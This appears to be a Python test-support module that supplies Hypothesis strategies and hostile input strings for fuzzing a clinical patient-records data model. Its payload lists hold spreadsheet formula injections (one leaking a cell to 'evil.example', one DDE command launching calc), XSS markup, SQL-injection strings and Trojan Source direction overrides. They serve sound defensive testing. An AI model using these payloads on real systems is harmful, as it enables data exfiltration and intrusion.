"""What the hostile-input tests share: hostile strings, Hypothesis settings and strategies."""

from __future__ import annotations

import re
from datetime import date

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from data_model.models import AuditEntry, Patient, Surgery, Treatment, Visit
from data_model.validation import MEASUREMENTS

TODAY = date(2026, 6, 1)
PURE = settings(
    max_examples=300,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
ROUND_TRIP = settings(
    max_examples=30,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
TABLES = {"patients": Patient, "surgeries": Surgery, "visits": Visit, "treatments": Treatment, "audit": AuditEntry}
SURROGATES = re.compile("[\ud800-\udfff]")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "=1+1",
    "\t=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "**bold** [x](javascript:alert(1))",
    "</textarea><svg onload=alert(1)>",
    "{{7*7}} ${7*7} %s %n",
]
SQL = [
    "1; DROP TABLE patients;--",
    "' OR 1=1 --",
    "Robert'); DROP TABLE patients;--",
    "1' UNION SELECT * FROM users--",
    '"; DELETE FROM visits; --',
]
ODD = [
    "",
    " ",
    "\t",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "\u202egnp.exe",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "1e400",
    "-0",
    "١٠",
    "5_0",
    "0x10",
    " 5 ",
    "5,5",
    "1e-400",
    "Ω≈ç√∫",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "😀" * 50,
    "a\x00b",
    "line\nbreak",
    "cr\rreturn",
    "\x1b[31mred",
    "\x7f",
    "\x85next line",
    "\u2028sep",
    "2026-02-30",
    "2026-13-01",
    "20260101",
    "2026-W05-1",
    "9999-12-31",
    "0001-01-01",
    "1899-12-31",
    "true",
    "yes",
    "0.0",
    "1.0",
    "10.0000001",
    "100.5",
]
# Digits float() reads but no clinic means: Arabic-Indic, Devanagari, full-width, mathematical bold.
OTHER_DIGITS = ["١٠", "٧", "१०", "１９７０", "５", "5٥", "𝟓"]
# Characters that hide or reorder what a name says (Trojan Source): overrides, embeddings, isolates.
DIRECTION = ["\u202eeoD nnA", "Ann\u202aDoe", "\u2066Ann\u2069", "Ann\u200fDoe", "A\u061cB"]
HOSTILE_STRINGS = FORMULAS + MARKUP + SQL + ODD + OTHER_DIGITS + DIRECTION


# --- strategies ------------------------------------------------------------------------------------------------

huge_text = st.builds(
    lambda ch, n: ch * n,
    st.sampled_from(["x", "é", "9", " ", "😀", "\x00", ","]),
    st.sampled_from([65, 121, 201, 4001, 100_000, 1_000_000]),
)
surrogate_text = st.builds(
    lambda a, s, b: a + s + b,
    st.text(max_size=5),
    st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF),
    st.text(max_size=5),
)
any_text = st.one_of(
    st.text(max_size=40),
    st.sampled_from(HOSTILE_STRINGS),
    huge_text,
    surrogate_text,
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=5),
)
numberish = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.floats(min_value=-1, max_value=110).map(lambda x: f" {x:g} "),
)
any_value = st.one_of(
    st.none(),
    any_text,
    numberish,
    st.integers(min_value=-(10**400), max_value=10**400),  # far past what a float holds
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.dates(min_value=date(1, 1, 1)),
    st.datetimes(),
    st.decimals(allow_nan=True),
    st.binary(max_size=8),
    st.lists(st.integers(), max_size=2),
    st.dictionaries(st.text(max_size=2), st.integers(), max_size=1),
)

VISIT_FIELDS = ("visit_date", *MEASUREMENTS, "notes")
PATIENT_FIELDS = ("mrn", "display_name", "birth_year", "sex")
SURGERY_FIELDS = ("surgery_date", "procedure", "spinal_levels", "surgeon", "notes")
TREATMENT_FIELDS = ("treatment", "start_date", "end_date", "notes")


def records(fields: tuple[str, ...]) -> st.SearchStrategy[dict]:
    """Any dict over the record's fields (some missing) and a few keys no form sends."""
    keys = st.sampled_from((*fields, "extra", "", "MRN", "id", "__class__"))
    return st.dictionaries(keys, any_value, max_size=len(fields) + 2)


def stored_text(text: str) -> str | None:
    """What the store keeps of a text field: trimmed, and empty as NULL."""
    return text.strip() or None
